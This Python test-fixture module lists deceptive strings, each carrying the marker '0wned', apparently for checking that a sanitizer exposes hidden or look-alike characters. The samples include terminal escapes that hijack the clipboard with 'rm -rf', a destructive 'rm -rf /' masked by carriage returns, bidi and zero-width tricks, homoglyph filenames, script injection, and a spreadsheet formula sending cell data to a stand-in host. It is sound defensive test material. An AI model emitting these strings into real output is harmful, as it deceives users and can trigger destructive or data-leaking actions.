"""Texts that would deceive whoever reads them, by what they try. Each holds MARK, which has to be shown."""

import string

from loops.printable.look_alikes import disguised
from loops.printable.text import is_odd, odd_places

MARK = "0wned"

TEXTS = {
    "clears the screen": f"\x1b[2J\x1b[H{MARK}",
    "hides what follows": f"{MARK}\x1b[8m",
    "fills the clipboard": f"\x1b]52;c;cm0gLXJm\x07{MARK}",
    "names the window": f"\x1b]0;root@host\x1b\\{MARK}",
    "a control sequence of one byte": f"\x9b31m{MARK}",
    "writes over its line": f"rm -rf /\r{MARK}     ",
    "takes letters back": f"rm -rf /\x08\x08{MARK}",
    "rings": f"{MARK}\x07",
    "another line end": f"{MARK}\x85approved\u2028approved",
    "reads backwards": f"{MARK}\u202egnp.exe\u202c",
    "isolates a direction": f"\u2067{MARK}\u2069",
    "zero width": f"0w\u200bned {MARK}",
    "no character at all": f"{MARK}\ufeff\u2060",
    "tag letters": f"{MARK}\U000e0072\U000e006d",
    "a letter that looks blank": f"{MARK}\u3164\u2800",
    "spaces that are none": f"{MARK}\u00a0\u3000--force",
    "private letters": f"{MARK}\ue000",
    "a script": f"<script>alert('{MARK}')</script>",
    "a formula": f'=HYPERLINK("http://x/?"&A1,"{MARK}")',
    "another alphabet": f"{MARK} \u0430pprove",
    "one letter of another alphabet": f"{MARK} p\u0430ypal \u0455etup.py",
    "a word of another alphabet": f"{MARK} \u0441\u043e\u0440\u0443 src/\u0391\u0392\u0395.py",
    "two normal forms": f"{MARK} caf\u00e9 cafe\u0301",
}

AT_ONCE = (
    f"{MARK} \x1b[2J\u202eexe\u200b\u3164\u2028\u3000p\u0430ypal \u0441\u043e\u0440\u0443 \u0391\u0392\u0395.py "
    "etc\u2215passwd cafe\u0301 <script>alert(1)"
)
"""Short enough for every name."""


def deceiving(text: str) -> set[str]:
    """Characters that have to be shown as code points wherever names and commands stand."""
    return {text[place] for place in odd_places(text)} - set(string.printable)


def deceiving_in_prose(text: str) -> set[str]:
    """The same of sentences, in which spaces, accents and emoji stay as they are written."""
    letters = {text[place] for word in disguised(text) for place in word.places}
    return (letters | set(filter(is_odd, text))) - set("\u00a0\u00ad\u200c\u200d\u202f\ufe0f")
